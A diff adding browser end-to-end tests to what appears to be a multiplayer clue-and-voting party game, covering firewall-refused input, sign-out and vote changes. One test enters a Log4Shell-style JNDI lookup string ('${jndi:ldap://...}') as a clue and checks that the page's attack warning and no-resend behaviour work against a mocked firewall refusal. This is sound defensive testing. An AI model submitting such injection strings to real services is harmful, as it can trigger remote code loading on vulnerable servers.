@@ -89,6 +89,29 @@ def test_a_move_whose_answer_is_lost_is_made_once(devices, table, phase):
     assert who.see(table.href)["owes"] is None
 
 
+def test_a_text_that_the_firewall_refuses_stays_and_is_not_sent_again(devices, table):
+    page = devices.device(table.people[1].token)
+    page.clock.install()
+    visit(page, address(table))
+    refused = []
+
+    def refuse(route):
+        refused.append(route.request.post_data_json["text"])
+        route.fulfill(status=403, json={"status": 403, "code": "text-refused", "title": "x"})
+
+    page.route("**/rounds/2/clue", refuse)
+    prepare(page, table.random, "${jndi:ldap://the-moon}")
+    page.locator(SEND).click()
+    page.get_by_role("alert").filter(has_text="like an attack").wait_for()
+    page.clock.fast_forward(60_000)  # longer than the page waits before it sends a request for the second time
+    look_again(page)
+    assert refused == ["${jndi:ldap://the-moon}"]
+    assert page.get_by_label("Your clue").input_value() == "${jndi:ldap://the-moon}"
+    page.unroute("**/rounds/2/clue")
+    act(page, table.random, "Down by the moon")
+    assert my_move(table.people[1].see(table.href))[0] == "Down by the moon"
+
+
 def test_a_page_without_a_network_says_so_and_goes_on_by_itself(devices, table):
     page = visit(devices.device(table.host.token), address(table))
     page.context.set_offline(True)
@@ -267,6 +290,17 @@ def test_a_prepared_clue_survives_another_view_and_a_reload(devices, table):
     page.get_by_text("Half a thought").first.wait_for()
 
 
+def test_a_prepared_clue_goes_with_the_player_who_signs_out(devices, http):
+    """Both are to give the first clue, one after the other in the same tab."""
+    table = begun(seated(http, 3))
+    page = visit(devices.device(), f"device/{table.host.token}")
+    visit(page, address(table)).get_by_label("Your clue").fill("Half a thought")
+    visit(page, "me").get_by_role("button", name="Sign out on this device").click()
+    page.get_by_role("link", name="Clue of the day").wait_for()
+    visit(page, f"device/{table.people[1].token}")
+    assert visit(page, address(table)).get_by_label("Your clue").input_value() == ""
+
+
 def test_chosen_cards_survive_news_from_the_table(devices, table):
     to(table, "cards", 2)
     page = visit(devices.device(table.host.token), address(table))
@@ -279,6 +313,7 @@ def test_chosen_cards_survive_news_from_the_table(devices, table):
     assert card.evaluate("card => card === document.activeElement")
 
 
+@pytest.mark.short
 def test_votes_may_be_changed_until_all_have_voted(devices, table):
     to(table, "votes", 2)
     page = visit(devices.device(table.host.token), address(table))
